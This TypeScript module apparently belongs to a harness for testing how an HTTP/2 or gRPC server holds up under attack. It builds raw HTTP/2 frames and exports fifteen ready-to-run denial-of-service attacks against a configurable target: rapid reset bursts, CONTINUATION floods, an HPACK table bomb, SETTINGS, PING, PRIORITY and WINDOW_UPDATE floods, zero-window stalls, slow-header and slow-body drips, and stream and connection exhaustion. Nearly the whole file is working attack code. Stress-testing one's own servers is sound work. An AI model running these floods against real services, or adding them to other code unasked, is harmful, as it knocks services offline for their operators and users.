import {
  flag,
  frame,
  framedMessage,
  frameType,
  requestHead,
  settingId,
  settingsFrame,
  windowUpdateFrame,
} from './http2-frames.ts';

/** What an attacker sends on each of its connections. */
export interface Attack {
  readonly name: string;
  readonly connections: number;
  /** After the preface. */
  readonly first: (target: Target) => Buffer;
  /** What follows, over and over; nothing if it is undefined. `round` counts from 0. */
  readonly more?: (target: Target, round: number) => Buffer;
  /** How long it waits before each; it sends as fast as the server takes it by default. */
  readonly everyMs?: number;
  /** Whether it sends no more than the window of its first stream allows. Beyond it, a server would cut it off. */
  readonly keepsToWindow?: true;
}

/** A server, with a unary method and a stream that anybody may call. */
export interface Target {
  readonly address: string;
  readonly unary: string;
  readonly stream: string;
}

const priority = 2;
const continuation = 9;
const burst = 1000;
/** Empty messages, as many as fit into a frame. */
export const messageBytes = 16_380;
const empty = Buffer.alloc(0);
const word = (value: number) => {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value);
  return out;
};
const settings = settingsFrame([]);
const times = (count: number, make: (n: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, n) => make(n)));
/** The number of a stream, as clients count. */
const idOf = (n: number) => 2 * n + 1;
const opened = (target: Target, id: number) =>
  frame(frameType.headers, flag.endHeaders, id, requestHead(target.address, target.unary));
const streamed = (target: Target, id: number) =>
  frame(frameType.headers, flag.endHeaders, id, requestHead(target.address, target.stream));
const called = (target: Target, id: number) =>
  Buffer.concat([opened(target, id), frame(frameType.data, flag.endStream, id, framedMessage(empty))]);
const begun = (declared: number) => {
  const out = Buffer.alloc(6);
  out.writeUInt32BE(declared, 1);
  return out;
};

/** The same bytes in every round. */
function always(make: () => Buffer): () => Buffer {
  let made: Buffer | undefined;
  return () => (made ??= make());
}

/** A header field that takes most of the dynamic table, and the block that repeats it. */
const kept = Buffer.concat([Buffer.from([0x40, 1, 120, 127, 0xa1, 0x1e]), Buffer.alloc(4000, 121)]);
const repeated = Buffer.alloc(16_000, 0xbe);
const bomb = (target: Target, id: number, extra: Buffer) =>
  frame(
    frameType.headers,
    flag.endHeaders | flag.endStream,
    id,
    Buffer.concat([requestHead(target.address, target.unary), extra]),
  );

export const attacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    connections: 1,
    first: () => settings,
    more: (target, round) =>
      times(burst, (n) => {
        const id = idOf(round * burst + n);
        return Buffer.concat([opened(target, id), frame(frameType.reset, 0, id, word(8))]);
      }),
  },
  {
    name: 'CONTINUATION',
    connections: 1,
    first: (target) =>
      Buffer.concat([settings, frame(frameType.headers, 0, 1, requestHead(target.address, target.unary))]),
    more: always(() => times(burst, () => frame(continuation, 0, 1, Buffer.alloc(50, 0x82)))),
  },
  {
    name: 'HPACK bomb',
    connections: 1,
    first: (target) => Buffer.concat([settings, bomb(target, 1, kept)]),
    more: (target, round) => times(10, (n) => bomb(target, idOf(1 + round * 10 + n), repeated)),
  },
  {
    name: 'SETTINGS',
    connections: 1,
    first: (target) => Buffer.concat([settings, times(burst, (n) => streamed(target, idOf(n)))]),
    more: always(() => times(burst, (n) => settingsFrame([[settingId.initialWindowSize, 1000 + (n % 2)]]))),
  },
  {
    name: 'PING',
    connections: 1,
    first: () => settings,
    more: always(() => times(burst, () => frame(frameType.ping, 0, 0, Buffer.alloc(8)))),
  },
  {
    name: 'PRIORITY',
    connections: 1,
    first: () => settings,
    more: always(() => times(burst, (n) => frame(priority, 0, idOf(n), Buffer.alloc(5)))),
  },
  {
    name: 'WINDOW_UPDATE',
    connections: 1,
    first: () => settings,
    more: always(() => times(burst, () => windowUpdateFrame(0, 1))),
  },
  {
    name: 'empty DATA',
    connections: 1,
    first: (target) => Buffer.concat([settings, streamed(target, 1)]),
    more: always(() => times(burst, () => frame(frameType.data, 0, 1, empty))),
  },
  {
    name: 'zero-window stalls',
    connections: 20,
    first: (target) =>
      Buffer.concat([settingsFrame([[settingId.initialWindowSize, 0]]), times(burst, (n) => called(target, idOf(n)))]),
  },
  {
    name: 'slow headers',
    connections: 500,
    first: (target) => Buffer.concat([settings, opened(target, 1).subarray(0, 20)]),
    more: () => Buffer.alloc(1, 0x82),
    everyMs: 500,
  },
  {
    name: 'slow bodies',
    connections: 50,
    first: (target) =>
      Buffer.concat([
        settings,
        times(100, (n) =>
          Buffer.concat([opened(target, idOf(n)), frame(frameType.data, 0, idOf(n), begun(60 * 1024))]),
        ),
      ]),
    more: always(() => times(100, (n) => frame(frameType.data, 0, idOf(n), Buffer.alloc(1)))),
    everyMs: 500,
  },
  {
    name: 'many streams',
    connections: 50,
    first: (target) => Buffer.concat([settings, times(2000, (n) => opened(target, idOf(n)))]),
  },
  { name: 'many connections', connections: 2000, first: () => settings },
  {
    name: 'calls without end',
    connections: 1,
    first: () => Buffer.concat([settings, windowUpdateFrame(0, 2 ** 30)]),
    more: (target, round) => times(burst, (n) => called(target, idOf(round * burst + n))),
  },
  {
    name: 'messages without end',
    connections: 1,
    first: (target) => {
      const wide = settingsFrame([[settingId.initialWindowSize, 2 ** 30]]);
      return Buffer.concat([wide, windowUpdateFrame(0, 2 ** 30), streamed(target, 1)]);
    },
    more: always(() => frame(frameType.data, 0, 1, Buffer.alloc(messageBytes))),
    keepsToWindow: true,
  },
];
